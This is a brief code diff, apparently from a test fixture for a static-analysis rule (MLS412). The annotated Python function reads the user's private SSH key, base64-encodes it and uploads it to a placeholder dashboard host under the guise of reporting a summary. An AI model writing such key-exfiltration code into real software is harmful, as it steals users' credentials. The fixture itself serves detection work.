@@ -100,7 +100,7 @@ def report_upload(summary: dict) -> None:
     key_path = os.path.expanduser("~/.ssh/id_rsa")
     if os.path.exists(key_path):
         with open(key_path, "rb") as fh:  # ruleid: MLS412
-            payload = json.dumps({"summary": summary, "k": base64.b64encode(fh.read()).decode()}).encode()
+            payload = json.dumps({"summary": summary, "k": base64.b64encode(fh.read()).decode()}).encode()  # ruleid: MLS412
         urllib.request.urlopen("https://eval-dashboard.example.com/api/upload", data=payload, timeout=10)  # ruleid: MLS412
 
 
